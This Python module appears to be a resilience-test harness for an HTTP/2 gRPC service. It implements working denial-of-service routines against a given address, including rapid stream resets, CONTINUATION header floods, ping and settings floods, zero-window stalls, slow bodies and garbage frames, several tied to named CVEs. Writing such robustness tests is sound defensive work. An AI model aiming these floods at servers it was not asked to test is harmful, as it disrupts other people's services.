"""What no client of HTTP/2 (RFC 9113) should do to a server, each within bounds."""

from __future__ import annotations

import random
import socket
import struct
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager
from typing import Final

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
METHOD: Final = "/sessionstore.v1.SessionService/ValidateSession"
_TIMEOUT_S: Final = 30.0
_CONNECTIONS: Final = 20
_LARGEST_FRAME: Final = 16_384
_END_HEADERS: Final = "END_HEADERS"
_END_STREAM: Final = "END_STREAM"


class Line:
    """A connection on which anything may be said."""

    def __init__(self, address: str) -> None:
        host, _, port = address.rpartition(":")
        self._socket = socket.create_connection((host, int(port)), timeout=_TIMEOUT_S)
        self._encoder = Encoder()

    def say(self, *parts: bytes | Frame) -> bool:
        """Send it all; whether the server took it, in time and without hanging up."""
        data = b"".join(part if isinstance(part, bytes) else part.serialize() for part in parts)
        try:
            self._socket.sendall(data)
        except OSError:
            return False
        return True

    def greet(self) -> None:
        """Begin as every client does."""
        self.say(PREFACE, SettingsFrame(0), WindowUpdateFrame(0, window_increment=2**30))

    def call(self, stream: int, **more: str) -> HeadersFrame:
        """The begin of a call, with more headers."""
        frame = HeadersFrame(stream, self.block(**more))
        frame.flags.add(_END_HEADERS)
        return frame

    def block(self, **more: str) -> bytes:
        """The headers of a call."""
        return self._encoder.encode(
            [
                (":method", "POST"),
                (":scheme", "http"),
                (":path", METHOD),
                (":authority", "localhost"),
                ("te", "trailers"),
                ("content-type", "application/grpc"),
                *((name.replace("_", "-"), value) for name, value in more.items()),
            ],
            huffman=False,
        )

    def close(self) -> None:
        """Hang up."""
        self._socket.close()


@contextmanager
def _lines(address: str, count: int = _CONNECTIONS) -> Iterator[list[Line]]:
    lines = [Line(address) for _ in range(count)]
    try:
        yield lines
    finally:
        for line in lines:
            line.close()


def rapid_resets(address: str, rounds: int) -> None:
    """Calls that are begun, or asked whole, and given up at once (CVE-2023-44487)."""
    with _lines(address) as lines:
        for number, line in enumerate(lines):
            line.greet()
            for stream in range(1, 2 * 100 * rounds, 2):
                asked = [_empty(stream)] if number % 2 else []
                if not line.say(line.call(stream), *asked, RstStreamFrame(stream, error_code=8)):
                    break


def huge_headers(address: str, rounds: int) -> None:
    """Metadata of a megabyte, and headers that never end (CVE-2024-27316)."""
    with _lines(address) as lines:
        for number, line in enumerate(lines):
            line.greet()
            if number % 2:
                block = line.block(x_much="x" * 2**20)
                head, *rest = _cut(block)
                frames: list[Frame] = [HeadersFrame(1, head)]
                frames += [ContinuationFrame(1, part) for part in rest]
                frames[-1].flags.add(_END_HEADERS)
                line.say(*frames)
                continue
            line.say(HeadersFrame(1, line.block()))
            for _ in range(50 * rounds):
                more = Encoder().encode([("x-more", "x" * (_LARGEST_FRAME // 2))], huffman=False)
                if not line.say(ContinuationFrame(1, more)):
                    break


def slow_bodies(address: str, rounds: int) -> None:
    """Messages that are announced and come a byte at a time, or not at all."""
    with _lines(address) as lines:
        for line in lines:
            line.greet()
            for stream in range(1, 101, 2):
                line.say(line.call(stream), DataFrame(stream, struct.pack(">BI", 0, 2**20)))
        for _ in range(20 * rounds):
            for line in lines:
                line.say(*(DataFrame(stream, b"x") for stream in range(1, 101, 2)))


def half_open_connections(address: str, rounds: int) -> None:
    """Ones that say nothing, or half a greeting, or greet and say no more."""
    with _lines(address, 100 * rounds) as lines:
        for number, line in enumerate(lines):
            if number % 3 == 1:
                line.say(PREFACE[: number % len(PREFACE)])
            elif number % 3 == 2:
                line.greet()


def ping_floods(address: str, rounds: int) -> None:
    """Pings and settings, whose answers nobody reads (CVE-2019-9512, CVE-2019-9515)."""
    pings = PingFrame(0, b"12345678").serialize() * 1_000
    settings = SettingsFrame(0).serialize() * 1_000
    with _lines(address) as lines:
        for number, line in enumerate(lines):
            line.greet()
            for _ in range(5 * rounds):
                if not line.say(settings if number % 2 else pings):
                    break


def garbage_frames(address: str, rounds: int) -> None:
    """Anything at all, in place of a greeting or after it."""
    chance = random.Random(rounds)
    for number in range(50 * rounds):
        with _lines(address, 1) as (line,):
            if number % 4:
                line.greet()
            if number % 4 == 1:
                line.say(chance.randbytes(chance.randint(1, 2**15)))
                continue
            for _ in range(chance.randint(1, 20)):
                body = chance.randbytes(chance.randint(0, 200))
                length = chance.choice((len(body), 2**24 - 1))
                kind, flags, stream = chance.randbytes(3)
                head = struct.pack(">I", length)[1:] + struct.pack(">BBI", kind, flags, stream % 8)
                if not line.say(head + body):
                    break


def oversized_messages(address: str, rounds: int) -> None:
    """Messages of many times what the server takes."""
    with _lines(address, 2 * rounds) as lines:
        for line in lines:
            line.greet()
            line.say(line.call(1), DataFrame(1, struct.pack(">BI", 0, 2**32 - 1)))
            for _ in range(64 * 2**20 // _LARGEST_FRAME):
                if not line.say(DataFrame(1, bytes(_LARGEST_FRAME))):
                    break


def unread_answers(address: str, rounds: int) -> None:
    """Calls whose answers the client leaves no room for (CVE-2019-9517)."""
    with _lines(address) as lines:
        for line in lines:
            window = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0})
            line.say(PREFACE, window)
            for stream in range(1, 2 * 50 * rounds, 2):
                if not line.say(line.call(stream), _empty(stream)):
                    break


def _empty(stream: int) -> DataFrame:
    """A message of no bytes, the last of its stream."""
    frame = DataFrame(stream, struct.pack(">BI", 0, 0))
    frame.flags.add(_END_STREAM)
    return frame


def _cut(block: bytes) -> list[bytes]:
    return [block[at : at + _LARGEST_FRAME] for at in range(0, len(block), _LARGEST_FRAME)]


ABUSES: Final[Mapping[str, Callable[[str, int], None]]] = {
    abuse.__name__: abuse
    for abuse in (
        rapid_resets,
        huge_headers,
        slow_bodies,
        half_open_connections,
        ping_floods,
        garbage_frames,
        oversized_messages,
        unread_answers,
    )
}
"""By name; each takes an address and how much of it, from 1."""
